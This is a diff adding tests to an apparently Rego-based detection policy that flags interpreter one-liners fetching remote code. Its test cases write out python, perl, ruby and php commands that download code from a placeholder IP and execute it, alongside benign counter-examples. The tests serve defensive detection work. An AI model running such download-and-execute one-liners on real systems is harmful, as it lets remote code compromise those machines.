@@ -31,6 +31,28 @@ test_finds_it[command] if {
 	count(found(testing.script(command))) == 1
 }
 
+test_finds_interpreters_that_need_no_client[program] if {
+	some program, arguments in {
+		"python3": ["python3", "-c", "import urllib.request as u; exec(u.urlopen('http://203.0.113.5/x').read())"],
+		"python": ["python", "-c", "import requests; eval(requests.get('https://203.0.113.5/x').text)"],
+		"perl": ["perl", "-e", "use LWP::Simple; eval get('http://203.0.113.5/x')"],
+		"ruby": ["ruby", "-e", "require 'open-uri'; system(URI.open('http://203.0.113.5/x').read)"],
+		"php": ["php", "-r", "eval(file_get_contents('http://203.0.113.5/x'));"],
+	}
+	subject := testing.exec(testing.process(9, $"/usr/bin/{program}", arguments), [])
+	testing.paths(found(subject)) == {"/event/process/args"}
+}
+
+test_leaves_interpreters_alone[why] if {
+	some why, arguments in {
+		"a probe": ["python3", "-c", "import urllib.request as u; u.urlopen('http://127.0.0.1/health')"],
+		"runs what it holds": ["python3", "-c", "exec('print(1)')"],
+		"reads a file": ["php", "-r", "eval(file_get_contents('/app/x.php'));"],
+		"a script of its own": ["python3", "/app/urlopen(http://exec("],
+	}
+	found(testing.exec(testing.process(9, $"/usr/bin/{arguments[0]}", arguments), [])) == set()
+}
+
 test_leaves_others[command] if {
 	some command in [
 		"curl -s http://x | jq .",
